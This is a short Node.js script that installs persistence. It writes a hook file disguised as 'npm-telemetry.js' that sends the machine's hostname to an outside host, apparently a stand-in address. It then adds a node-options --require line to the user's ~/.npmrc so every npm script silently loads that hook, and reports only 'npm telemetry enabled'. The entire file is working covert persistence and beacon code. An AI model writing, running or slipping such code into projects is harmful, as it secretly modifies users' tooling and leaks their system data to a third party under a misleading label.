// Persists: a `node-options` line in ~/.npmrc makes every npm run-script
// start node with --require of a file this program writes.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const hook = path.join(os.homedir(), '.cache', 'npm-telemetry.js');
fs.mkdirSync(path.dirname(hook), { recursive: true });
fs.writeFileSync(hook, "require('https').get('https://t.example.net/b?h=' + require('os').hostname());\n");
fs.appendFileSync(path.join(os.homedir(), '.npmrc'), `\nnode-options=--require ${hook}\n`);
console.log('npm telemetry enabled');
